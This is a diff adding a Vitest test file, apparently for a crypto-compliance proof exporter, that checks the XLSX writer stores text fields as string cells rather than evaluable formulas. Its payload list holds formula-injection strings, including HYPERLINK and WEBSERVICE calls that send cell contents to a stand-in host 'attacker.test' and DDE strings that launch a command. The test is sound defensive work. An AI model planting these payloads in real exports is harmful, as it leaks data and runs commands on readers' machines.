@@ -1,0 +1,75 @@
+import { describe, expect, it } from "vitest";
+import { XlsxProofWriter } from "../../src/export/xlsx-proof-writer.js";
+import type { Proof } from "../../src/proofs/proof.js";
+import { readWorkbook, worksheetXml } from "./read-workbook.js";
+
+/**
+ * The attack: a customer (or anyone who can put text into a proof: an address, a comment, a
+ * message, a transaction id) writes text that a spreadsheet evaluates when the compliance team
+ * opens the export, to run commands through DDE or to send cell contents to an attacker's server
+ * through HYPERLINK or WEBSERVICE. These are the openings OWASP lists for CSV/formula injection.
+ * The export stops it by writing all text as string cells, which no spreadsheet evaluates.
+ */
+const payloads = [
+  "=1+1",
+  "=HYPERLINK(\"http://attacker.test/?leak=\"&A2,\"Click for details\")",
+  "=WEBSERVICE(\"http://attacker.test/\"&B2)",
+  "=cmd|' /C calc'!A0",
+  "+1+1",
+  "+cmd|' /C calc'!A0",
+  "-1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "\r\n=1+1",
+  "=1+1\u0000",
+  "<f>1+1</f>",
+  "</v><f>1+1</f><v>",
+];
+
+function proofsCarrying(payload: string, index: number): Proof[] {
+  const at = new Date(Date.UTC(2026, 0, 1, 0, 0, index));
+  const base = { createdAt: at, updatedAt: at, dueAt: null, asset: "DTI4H95J0R2X", status: "VERIFIED" as const };
+  return [
+    {
+      ...base, __typename: "AopdSignatureProof", id: payload, address: payload, customerId: payload, comment: payload,
+      format: null, message: payload, signature: payload, xpub: payload,
+    },
+    {
+      ...base, __typename: "AopdSatoshiProof", id: payload, address: payload, customerId: payload, comment: payload,
+      amount: payload, senderAddress: payload, depositAddress: payload, txId: payload, assessment: null,
+    },
+  ];
+}
+
+describe("formula injection through proof text", () => {
+  it("writes every text that a spreadsheet would take for a formula as a string cell, read back by SheetJS", async () => {
+    const writer = new XlsxProofWriter({ assetName: () => "Bitcoin" });
+    for (const [index, payload] of payloads.entries()) await writer.add(proofsCarrying(payload, index));
+    const file = await writer.finish();
+
+    const [sheet] = readWorkbook(file);
+    const rows = sheet!.rows.slice(1);
+    expect(rows).toHaveLength(payloads.length * 2);
+    let carried = 0;
+    rows.forEach((row, r) => {
+      const payload = payloads[Math.floor(r / 2)] as string;
+      for (const cell of row) {
+        if (cell === null) continue;
+        // No reader may find a formula, and every cell that holds the text holds it as a string.
+        expect(cell.f).toBeUndefined();
+        if (cell.t !== "s" || cell.v !== payload) continue;
+        carried += 1;
+      }
+    });
+    // id, customer, address, comment, message, signature, xpub; id, customer, address, comment, amount, sender, deposit, tx id.
+    expect(carried).toBe(payloads.length * 15);
+
+    // Below the reader: no `<f>` element in any worksheet, and cells are string-typed.
+    for (const xml of worksheetXml(file)) {
+      expect(xml).not.toMatch(/<f[\s>]/);
+      expect(xml).toContain('t="str"');
+    }
+  });
+});
